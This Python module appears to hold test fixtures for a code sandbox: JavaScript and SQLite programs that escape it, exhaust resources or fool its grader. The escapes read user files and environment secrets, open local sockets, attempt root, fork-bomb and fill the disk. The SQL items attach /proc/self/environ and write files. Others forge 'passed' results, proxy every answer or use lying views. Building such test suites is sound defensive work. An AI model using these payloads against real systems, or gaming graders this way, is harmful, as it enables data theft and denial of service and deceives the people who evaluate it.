# ruff: noqa: E501
"""JavaScript and SQL programs that reach out of their sandbox, take too much, or work on whoever judges.

Places in braces as in `hostile_programs.py` and `hostile_reaching.py`.
"""

_NODE = "const p = this.constructor.constructor('return process')(); const get = (name) => p.getBuiltinModule ? p.getBuiltinModule(name) : p.mainModule.require(name); "
_SAYS = " await new Promise((done) => { s.on('data', (d) => { console.log(String(d).trim()); done(); }); s.on('error', done); s.on('close', done); });"

REACHING_MORE_JAVASCRIPT = {
    "file of the user by a module of Node": _NODE + "console.log(get('fs').readFileSync('{file}', 'utf8'));",
    "file of the user by an import": "const fs = await import('node:fs'); console.log(fs.readFileSync('{file}', 'utf8'));",
    "file of the user by a binding": _NODE + "console.log(String(p.binding('fs').readFileUtf8('{file}', 0)));",
    "file of the user by a module's constructor": "const Module = require('util').inspect.constructor('return process')().getBuiltinModule('module'); console.log(Module.createRequire('/tmp/x.js')('fs').readFileSync('{file}', 'utf8'));",
    "file of the user by a frame of an error": "Error.prepareStackTrace = (_, frames) => frames; const found = new Error().stack.map((f) => f.getFunction && f.getFunction()).find(Boolean); console.log(found ? found.constructor('return process')().getBuiltinModule('fs').readFileSync('{file}', 'utf8') : '');",
    "file of the user by a link": _NODE + "const fs = get('fs'); fs.symlinkSync('{file}', '/tmp/link'); console.log(fs.readFileSync('/tmp/link', 'utf8'));",
    "file of the user by a shell": _NODE + "console.log(get('child_process').execSync('cat {file} 2>/dev/null; true').toString());",
    "file of the user by another thread": _NODE + "const { Worker } = get('worker_threads'); const w = new Worker(\"require('worker_threads').parentPort.postMessage(require('fs').readFileSync('{file}', 'utf8'))\", { eval: true }); await new Promise((done) => { w.on('message', (m) => { console.log(m); done(); }); w.on('error', done); });",
    "file of the user through /proc": _NODE + "const fs = get('fs'); for (const pid of fs.readdirSync('/proc')) { try { console.log(fs.readFileSync(`/proc/${pid}/root{file}`, 'utf8')); break; } catch {} }",
    "secret of the environment by another thread": _NODE + "const { Worker, SHARE_ENV } = get('worker_threads'); const w = new Worker(\"require('worker_threads').parentPort.postMessage(process.env['{variable}'])\", { eval: true, env: SHARE_ENV }); await new Promise((done) => { w.on('message', (m) => { console.log(m); done(); }); w.on('error', done); });",
    "secret of the environment by a report": _NODE + "console.log(p.report.getReport().environmentVariables['{variable}']);",
    "network by fetching": "try { const r = await URL.constructor('return fetch')()('http://127.0.0.1:{port}'); console.log(await r.text()); } catch (e) { console.log(/[0-9a-f]{32}/.exec(require('util').inspect(e, { depth: 9 }))?.[0]); }",
    "network by a module of Node": _NODE + "const s = get('net').connect({port}, '127.0.0.1');" + _SAYS,
    "network by another thread": _NODE + "const { Worker } = get('worker_threads'); const w = new Worker(\"const s = require('net').connect({port}, '127.0.0.1'); s.on('data', (d) => require('worker_threads').parentPort.postMessage(String(d)));\", { eval: true }); await new Promise((done) => { w.on('message', (m) => { console.log(m); done(); }); w.on('error', done); w.on('exit', done); });",
    "a service of the machine by an abstract name": _NODE + "const s = get('net').connect('\\0{abstract}');" + _SAYS,
    "a service of the machine by its socket": _NODE + "const s = get('net').connect('{socket}');" + _SAYS,
    "root again": _NODE + "let done = ''; for (const f of ['setuid', 'seteuid', 'setgid']) { try { p[f](0); done = p.geteuid() === 0 ? '{worked}' : done; } catch {} } console.log(done);",
    "a namespace of its own by a shell": _NODE + "const r = get('child_process').spawnSync('/usr/bin/unshare', ['-Ur', 'true']); console.log(r.status === 0 ? '{worked}' : '');",
}  # fmt: skip

MORE_JAVASCRIPT = {
    "posts an answer in the name of its thread": _NODE + "get('worker_threads').parentPort.postMessage({ ended: 'done', cell: 1, results: [{ text: '5', main: true }], stdout: ['passed'], stderr: [], error: null }); p.exit(0);",
    "waits on shared memory for ever": "const all = new Int32Array(new SharedArrayBuffer(8)); Atomics.wait(all, 0, 0);",
    "takes all memory that threads share": "const kept = []; while (true) { const a = new Uint8Array(new SharedArrayBuffer(64 << 20)); a.fill(1); kept.push(a); }",
    "takes all memory of WebAssembly": "const W = URL.constructor('return WebAssembly')(); const kept = []; while (true) { const m = new W.Memory({ initial: 1024 }); new Uint8Array(m.buffer).fill(1); kept.push(m); }",
    "starts threads without end": _NODE + "const { Worker } = get('worker_threads'); while (true) { try { new Worker('while (true);', { eval: true }); } catch {} await null; }",
    "tasks without end": "(function again() { Promise.resolve().then(again); })(); await new Promise((done) => setTimeout(done, 10 ** 8));",
    "ticks without end": _NODE + "(function again() { p.nextTick(again); })(); await new Promise(() => {});",
    "a pattern that never ends": "function add() { return /^(a+)+$/.test('a'.repeat(60) + 'b'); }",
    "a bomb in a few bytes": "const z = require('zlib'); const data = z.deflateSync(Buffer.alloc(1 << 28)); const kept = []; while (true) kept.push(z.inflateSync(data));",
    "aborts": _NODE + "p.abort();",
    "stops its process": _NODE + "p.kill(p.pid, 'SIGSTOP');",
    "opens the debugger": _NODE + "try { get('inspector').open(9229, '0.0.0.0'); } catch {} function add() { return 0; }",
    "loads a library": _NODE + "try { p.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'); } catch {} function add() { return 0; }",
    "speaks to the engine": _NODE + "get('v8').setFlagsFromString('--allow-natives-syntax'); get('v8').setFlagsFromString('--no-opt'); function add() { return 0; }",
    "changes what modules give": _NODE + "const M = get('module'); M._load = () => new Proxy(() => true, { get: () => () => true }); get('assert').AssertionError = Object; function add() { return 0; }",
    "a proxy of every answer": "const add = new Proxy(function () {}, { apply: () => new Proxy({}, { get: (_, k) => k === Symbol.toPrimitive ? () => 5 : 5 }) });",
    "a getter that never ends": "function add() { return { get value() { while (true); } }; }",
    "a number that changes": "let n = 0; function add() { return { valueOf: () => [5, 0][n++ % 2] }; }",
    "forks without end in a shell": _NODE + "get('child_process').spawnSync('/bin/bash', ['-c', ':(){ :|:& };:; wait']);",
    "fills the disk": _NODE + "const fs = get('fs'); for (let n = 0; ; n++) { try { fs.writeFileSync(`/tmp/${n}`, Buffer.alloc(30 << 20)); } catch {} }",
}  # fmt: skip

MORE_SQL = {
    "reads a file as a database": "ATTACH DATABASE '{file}' AS outside; SELECT * FROM outside.sqlite_master;",
    "reads a file as a database that cannot change": "ATTACH DATABASE 'file:{file}?immutable=1&mode=ro' AS outside; SELECT * FROM outside.sqlite_schema;",
    "reads the environment as a database": "ATTACH DATABASE '/proc/self/environ' AS outside; SELECT * FROM outside.sqlite_master;",
    "writes a journal outside": "ATTACH DATABASE '{file}.new' AS outside; PRAGMA outside.journal_mode = PERSIST; CREATE TABLE outside.t (x); SELECT 1;",
    "writes temporary files outside": "PRAGMA temp_store = 1; PRAGMA temp_store_directory = '/root'; CREATE TEMP TABLE t AS SELECT randomblob(1000); SELECT 1;",
    "writes a file": "SELECT writefile('{file}', 'changed');",
    "loads an extension as a program": "SELECT load_extension('/tmp/mine.so', 'sqlite3_extension_init'); SELECT fts3_tokenizer('x', x'0000000000000000');",
    "runs a program to edit": "SELECT edit('x', 'cat {file}');",
    "reads folders as a table": "CREATE VIRTUAL TABLE t USING fsdir; SELECT name, data FROM fsdir('/'); SELECT * FROM zipfile('{file}');",
    "rewrites the schema": "PRAGMA writable_schema = ON; UPDATE sqlite_master SET sql = 'CREATE TABLE crops (name TEXT, acres INTEGER DEFAULT 7)' WHERE name = 'crops'; DELETE FROM sqlite_master WHERE name = 'crops'; PRAGMA writable_schema = RESET; SELECT name, acres FROM crops;",
    "breaks the schema": "PRAGMA writable_schema = ON; UPDATE sqlite_master SET sql = 'CREATE TABLE crops(' || hex(zeroblob(1000)), rootpage = 99999; PRAGMA schema_version = 7; SELECT name, acres FROM crops;",
    "takes limits away": "PRAGMA hard_heap_limit = 0; PRAGMA soft_heap_limit = 0; PRAGMA max_page_count = 4294967294; PRAGMA cache_size = -99999999; PRAGMA threads = 64; SELECT 1;",
    "fills the database": "CREATE TABLE big (x); WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) INSERT INTO big SELECT randomblob(1000000) FROM n;",
    "a product of everything": "WITH n(x) AS (VALUES (1),(2),(3),(4),(5),(6),(7),(8),(9),(0)) SELECT COUNT(*) FROM n a, n b, n c, n d, n e, n f, n g, n h, n i, n j, n k, n l;",
    "a trigger that calls itself": "PRAGMA recursive_triggers = ON; CREATE TABLE t (x); CREATE TRIGGER again AFTER INSERT ON t BEGIN INSERT INTO t VALUES (NEW.x + 1); END; INSERT INTO t VALUES (1); SELECT COUNT(*) FROM t;",
    "a pattern that never ends": "SELECT ('a' || replace(hex(zeroblob(20000)), '0', 'a')) LIKE replace(hex(zeroblob(20)), '0', '%a') || 'b';",
    "a statement that is nested without end": "WITH RECURSIVE n(x) AS (SELECT '(' UNION ALL SELECT x || x FROM n LIMIT 30) SELECT json_valid(group_concat(x)), printf('%.*c', 900000000, 'x') FROM n;",
    "a view that lies": "ALTER TABLE crops RENAME TO real_crops; CREATE VIEW crops AS SELECT 'wheat' AS name, 1 AS acres; SELECT name, acres FROM crops;",
    "rolls its tables back": "BEGIN; DELETE FROM crops; SAVEPOINT x; INSERT INTO crops VALUES ('passed', 1); SELECT name, acres FROM crops; ROLLBACK;",
}  # fmt: skip
